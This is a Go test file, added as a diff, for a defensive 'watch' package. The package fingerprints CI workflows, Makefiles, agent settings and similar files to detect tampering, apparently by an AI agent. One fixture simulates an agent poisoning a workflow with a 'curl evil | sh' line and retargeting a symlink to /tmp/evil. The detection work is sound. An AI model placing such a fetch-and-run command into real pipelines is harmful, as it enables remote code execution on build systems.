@@ -1,0 +1,121 @@
+package watch
+
+import (
+	"fmt"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func keys(m map[string]string) []string {
+	out := []string{}
+	for k := range m {
+		out = append(out, k)
+	}
+	return dedupe(out)
+}
+
+func TestFilesMatchesPatterns(t *testing.T) {
+	ws := t.TempDir()
+	write(t, ws, map[string]string{
+		".github/workflows/ci.yml":    "on: push",
+		".github/workflows/sub/x.yml": "x",
+		".github/CODEOWNERS":          "x",
+		"Makefile":                    "all:",
+		"sub/Makefile":                "all:",
+		"a.code-workspace":            "{}",
+		".claude/settings.json":       "{}",
+		"notadir":                     "",
+		".env":                        "SECRET=1",
+		"deploy/keys/id":              "k",
+		"deploy/run.sh":               "x",
+		"CLAUDE.md":                   "be good",
+	})
+	masked := func(rel string) bool {
+		return rel == ".env" || rel == "deploy/keys" || strings.HasPrefix(rel, "deploy/keys/")
+	}
+	got, capped := Files(ws, []string{".github/workflows", "Makefile", "*.code-workspace", ".claude/", "notadir/", "CLAUDE.md", ".env", "deploy/", "nothing/*", "../x", "/abs"}, masked)
+	want := []string{".claude/settings.json", ".github/workflows/ci.yml", ".github/workflows/sub/x.yml", "CLAUDE.md", "Makefile", "a.code-workspace", "deploy/run.sh"}
+	if diff := cmp.Diff(want, keys(got)); diff != "" {
+		t.Errorf("Files (-want +got):\n%s", diff)
+	}
+	if len(capped) != 0 {
+		t.Errorf("Files capped %v, want none", capped)
+	}
+}
+
+func TestFilesDetectsChanges(t *testing.T) {
+	ws := t.TempDir()
+	write(t, ws, map[string]string{".github/workflows/ci.yml": "on: push", "tasks": "->/bin/true", "Makefile": "all:"})
+	patterns := []string{".github/workflows", "tasks", "Makefile"}
+	before, _ := Files(ws, patterns, nil)
+	if before["tasks"] != "symlink:/bin/true" {
+		t.Fatalf("a symlink is recorded by its target, got %q", before["tasks"])
+	}
+	// the agent poisons the workflow, retargets the link and adds a workflow
+	write(t, ws, map[string]string{".github/workflows/ci.yml": "on: push\nrun: curl evil | sh", "tasks": "->/tmp/evil", ".github/workflows/new.yml": "x"})
+	after, _ := Files(ws, patterns, nil)
+	got := []string{}
+	for _, c := range Diff(before, after) {
+		got = append(got, c.Kind()+" "+c.Name)
+	}
+	want := []string{"changed .github/workflows/ci.yml", "added .github/workflows/new.yml", "changed tasks"}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("Diff (-want +got):\n%s", diff)
+	}
+}
+
+func TestFilesNeverFollowsLinks(t *testing.T) {
+	ws, outside := t.TempDir(), t.TempDir()
+	write(t, outside, map[string]string{"workflows/secret.yml": "x"})
+	write(t, ws, map[string]string{".github": "->" + outside, "link-dir": "->" + outside})
+	got, _ := Files(ws, []string{".github/workflows", "link-dir"}, nil)
+	want := map[string]string{".github": "symlink:" + outside, "link-dir": "symlink:" + outside}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("Files through links (-want +got):\n%s", diff)
+	}
+}
+
+func TestFilesCapsEachPattern(t *testing.T) {
+	ws := t.TempDir()
+	files := map[string]string{}
+	for i := 0; i < MaxPerPattern+20; i++ {
+		files[fmt.Sprintf("node_modules/p%04d/package.json", i)] = "{}"
+	}
+	files["Makefile"] = "x"
+	write(t, ws, files)
+	got, capped := Files(ws, []string{"node_modules", "Makefile"}, nil)
+	if len(got) != MaxPerPattern+1 {
+		t.Errorf("Files fingerprinted %d files, want %d", len(got), MaxPerPattern+1)
+	}
+	if diff := cmp.Diff([]Capped{{Pattern: "node_modules", Files: MaxPerPattern}}, capped); diff != "" {
+		t.Errorf("capped (-want +got):\n%s", diff)
+	}
+}
+
+func TestBaselineRoundTripKeepsSections(t *testing.T) {
+	p := filepath.Join(t.TempDir(), "state", "baselines.json")
+	if err := UpdateBaseline(p, func(b *Baseline) { b.Git = map[string]string{"key:core.pager": "less"} }); err != nil {
+		t.Fatal(err)
+	}
+	if err := UpdateBaseline(p, func(b *Baseline) { b.Watch = map[string]string{"Makefile": "sha256:1"} }); err != nil {
+		t.Fatal(err)
+	}
+	b, err := LoadBaseline(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if b.Git["key:core.pager"] != "less" || b.Watch["Makefile"] != "sha256:1" {
+		t.Errorf("LoadBaseline = %+v, want both sections", b)
+	}
+}
+
+func TestSummarize(t *testing.T) {
+	cs := Diff(map[string]string{"a": "1", "b": "1", "c": "1"}, map[string]string{"a": "2", "b": "1", "d": "1", "e": "1"})
+	got := Summarize(cs, 3, strings.ToUpper)
+	if want := "changed: A; added: D; removed: C; and 1 more"; got != want {
+		t.Errorf("Summarize = %q, want %q", got, want)
+	}
+}
